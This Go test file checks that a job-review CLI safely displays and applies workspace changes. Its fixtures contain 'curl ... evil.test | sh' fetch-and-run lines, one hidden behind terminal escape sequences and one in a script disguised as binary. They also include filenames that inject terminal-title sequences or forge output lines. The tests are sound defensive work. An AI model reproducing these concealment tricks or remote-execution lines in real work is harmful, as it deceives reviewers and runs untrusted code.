//go:build linux

package cli_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/delegate-dev/delegate"
	"github.com/delegate-dev/delegate/mock"
	"github.com/delegate-dev/delegate/workspace"
)

// changesService is a job service whose one job changed a workspace: the
// changes are real ones, read by the workspace package from a copy of a
// source directory the job changed.
type changesService struct {
	*mock.JobService
	src  string
	base []byte
	cs   *workspace.Changes
}

func (s *changesService) Changes(ctx context.Context, id string) (*delegate.WorkspaceChanges, error) {
	return &delegate.WorkspaceChanges{}, nil
}

func (s *changesService) Diff(ctx context.Context, id string, opts delegate.DiffOptions) (*delegate.DiffPage, error) {
	p := s.cs.Diff(workspace.DiffOptions{Offset: opts.Offset, Limit: opts.Limit})
	return &delegate.DiffPage{Text: p.Text, Offset: p.Offset, Next: p.Next, Total: p.Total}, nil
}

func (s *changesService) Patch(ctx context.Context, id string) ([]byte, error) { return s.cs.Patch(0) }

func (s *changesService) ChangeSet(ctx context.Context, id string) (*delegate.ChangeSet, error) {
	data, err := json.Marshal(s.cs)
	return &delegate.ChangeSet{JobID: id, Source: delegate.WorkspaceSource{Dir: s.src}, Baseline: s.base, Changes: data}, err
}

// LastApplied: no apply was recorded (the engine's tests and the e2e
// tests cover applies that follow each other).
func (s *changesService) LastApplied(ctx context.Context, id, target string) (*delegate.ChangeSet, error) {
	return nil, nil
}

func (s *changesService) RecordApplied(ctx context.Context, id, target string) error { return nil }

// jobChanged imports src (files: path -> content), lets job change the
// copy, and serves the changes.
func jobChanged(t *testing.T, files map[string]string, job func(dir string)) *changesService {
	t.Helper()
	ctx := context.Background()
	src := t.TempDir()
	for p, c := range files {
		os.MkdirAll(filepath.Dir(filepath.Join(src, p)), 0o755)
		os.WriteFile(filepath.Join(src, p), []byte(c), 0o644)
	}
	tree, err := workspace.Scan(ctx, src, workspace.ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	base, err := tree.Archive(ctx, &buf, workspace.ArchiveOptions{})
	if err != nil {
		t.Fatal(err)
	}
	sb := t.TempDir()
	if _, err := workspace.Extract(ctx, &buf, sb, workspace.ExtractOptions{}); err != nil {
		t.Fatal(err)
	}
	job(sb)
	cs, err := workspace.DirChanges(ctx, base, sb, workspace.ChangesOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := cs.ReadOld(ctx, src, ""); err != nil {
		t.Fatal(err)
	}
	bj, _ := json.Marshal(base)
	return &changesService{JobService: &mock.JobService{}, src: src, base: bj, cs: cs}
}

// hiddenScript is a runnable script git calls binary (a NUL byte after
// its first line).
const hiddenScript = "#!/bin/sh\n# \x00\ncurl -s https://evil.test/x | sh\n"

// hidingJob adds a line that a carriage return, an erase-line and a
// conceal sequence would hide on a terminal, a script git calls binary,
// and a file whose name sets the terminal's title.
func hidingJob(t *testing.T) *changesService {
	return jobChanged(t, map[string]string{"notes.txt": "one\n"}, func(dir string) {
		os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("one\nharmless\r\x1b[2K\x1b[8mcurl -s https://evil.test/y | sh\n"), 0o644)
		os.WriteFile(filepath.Join(dir, "run.sh"), []byte(hiddenScript), 0o755)
		os.WriteFile(filepath.Join(dir, "t\x1b]0;title\x07.txt"), []byte("x\n"), 0o644)
	})
}

// controls: what drives a terminal (every C0 control but newline and
// tab, DEL, the C1 CSI).
var controls = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f]|\u009b")

func sha256Of(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// TestTerminalDiff (issue 34, item 3): on a terminal, jobs diff (and
// --patch, --json) shows every control character as an escape, lists a
// change git calls binary with its size, mode and hash, and quotes names;
// --raw, and a pipe, keep the bytes exact.
func TestTerminalDiff(t *testing.T) {
	svc := hidingJob(t)
	for _, args := range [][]string{{"jobs", "diff", "job-1"}, {"jobs", "diff", "job-1", "--patch"}, {"jobs", "diff", "job-1", "--json"}} {
		code, got := onTerminal(t, svc, args...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %q", args, code, got)
		}
		if m := controls.FindString(got); m != "" {
			t.Errorf("%v: the terminal got %q:\n%q", args, m, got)
		}
	}
	_, got := onTerminal(t, svc, "jobs", "diff", "job-1")
	for _, want := range []string{
		`+harmless\r\x1b[2K\x1b[8mcurl -s https://evil.test/y | sh`,
		"Binary files /dev/null and b/run.sh differ\n#   new: " + fmt.Sprint(len(hiddenScript)) + " bytes, mode 100755, sha256 " + sha256Of(hiddenScript) + "\n",
		`diff --git "a/t\033]0;title\a.txt" "b/t\033]0;title\a.txt"`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("the terminal lacks %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "evil.test/x") {
		t.Errorf("the diff shows the binary script's content:\n%s", got)
	}
	// --raw on a terminal, and a pipe: byte for byte.
	whole := svc.cs.Diff(workspace.DiffOptions{Limit: 1 << 20}).Text
	if _, raw := onTerminal(t, svc, "jobs", "diff", "job-1", "--raw"); raw != whole {
		t.Errorf("--raw:\n%q\nwant\n%q", raw, whole)
	}
	h := newHarness()
	h.other = svc
	if r := h.run(t, "jobs", "diff", "job-1"); r.stdout != whole {
		t.Errorf("to a pipe:\n%q\nwant\n%q", r.stdout, whole)
	}
	patch, _ := svc.cs.Patch(0)
	if r := h.run(t, "jobs", "diff", "job-1", "--patch"); r.stdout != string(patch) {
		t.Errorf("--patch to a pipe is not the patch")
	}
}

// TestApplyNotShown (issue 34, item 3): jobs apply writes nothing the diff
// did not show unless --binary, which the refusal names; the names it
// writes are quoted, to a pipe as on a terminal.
func TestApplyNotShown(t *testing.T) {
	svc := hidingJob(t)
	h := newHarness()
	h.other = svc
	r := h.run(t, "jobs", "apply", "job-1")
	if r.code != 1 || !strings.Contains(r.stderr, "--binary") || !strings.Contains(r.stderr, "run.sh: binary") || !strings.Contains(r.stderr, sha256Of(hiddenScript)) {
		t.Errorf("apply: exit %d\n%s", r.code, r.stderr)
	}
	if _, err := os.Stat(filepath.Join(svc.src, "run.sh")); err == nil {
		t.Fatal("run.sh was written")
	}
	r = h.run(t, "jobs", "apply", "job-1", "--binary")
	if r.code != 0 {
		t.Fatalf("apply --binary: exit %d\n%s", r.code, r.stderr)
	}
	if want := "written notes.txt\nwritten run.sh\nwritten \"t\\x1b]0;title\\a.txt\"\n"; r.stdout != want {
		t.Errorf("apply --binary wrote\n%q\nwant\n%q", r.stdout, want)
	}
	if m := controls.FindString(r.stdout + r.stderr); m != "" {
		t.Errorf("apply printed %q", m)
	}
	if data, _ := os.ReadFile(filepath.Join(svc.src, "run.sh")); string(data) != hiddenScript {
		t.Errorf("run.sh: %q", data)
	}
}

// TestApplyNewlineNames (issue 35, item 5): a name with a newline is
// written quoted on one line by jobs apply, in what it wrote and in what
// it refused, so that it cannot read as two lines (a forged "written").
func TestApplyNewlineNames(t *testing.T) {
	const added, both = "new\nwritten evil.txt", "c\nd.txt"
	svc := jobChanged(t, map[string]string{both: "one\n"}, func(dir string) {
		os.WriteFile(filepath.Join(dir, added), []byte("x\n"), 0o644)
		os.WriteFile(filepath.Join(dir, both), []byte("job\n"), 0o644)
	})
	h := newHarness()
	h.other = svc
	// Changed here too: refused, the name quoted.
	if err := os.WriteFile(filepath.Join(svc.src, both), []byte("mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := h.run(t, "jobs", "apply", "job-1")
	if r.code != 1 || !strings.Contains(r.stderr, "\n  \"c\\nd.txt\": ") || strings.Contains(r.stderr, "c\nd") {
		t.Errorf("apply over a conflict: exit %d\n%q", r.code, r.stderr)
	}
	if err := os.WriteFile(filepath.Join(svc.src, both), []byte("one\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r = h.run(t, "jobs", "apply", "job-1")
	if want := "written \"c\\nd.txt\"\nwritten \"new\\nwritten evil.txt\"\n"; r.code != 0 || r.stdout != want {
		t.Errorf("apply: exit %d, wrote\n%q\nwant\n%q\n%s", r.code, r.stdout, want, r.stderr)
	}
	if data, err := os.ReadFile(filepath.Join(svc.src, added)); err != nil || string(data) != "x\n" {
		t.Errorf("%q: %q, %v", added, data, err)
	}
}
